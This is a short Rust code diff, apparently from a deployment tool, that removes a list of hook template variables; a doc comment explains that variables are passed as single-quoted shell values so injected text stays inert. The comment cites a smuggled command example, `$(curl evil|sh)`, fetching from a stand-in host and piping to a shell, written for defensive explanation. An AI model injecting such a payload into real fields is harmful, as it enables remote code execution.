@@ -194,11 +194,6 @@ pub fn write_env(base: &str) -> String {
     )
 }
 
-/// The template variables of hooks: `{{ name }}` or `{{name}}`.
-pub const HOOK_VARIABLES: &[&str] = &[
-    "release", "time", "project", "sha", "branch", "author", "message", "name", "php", "composer",
-];
-
 /// A hook's script with each known `{{ var }}` turned into a reference to a shell variable
 /// that a preamble sets to the value, single-quoted. A commit message like `$(curl evil|sh)`
 /// is data, never code.
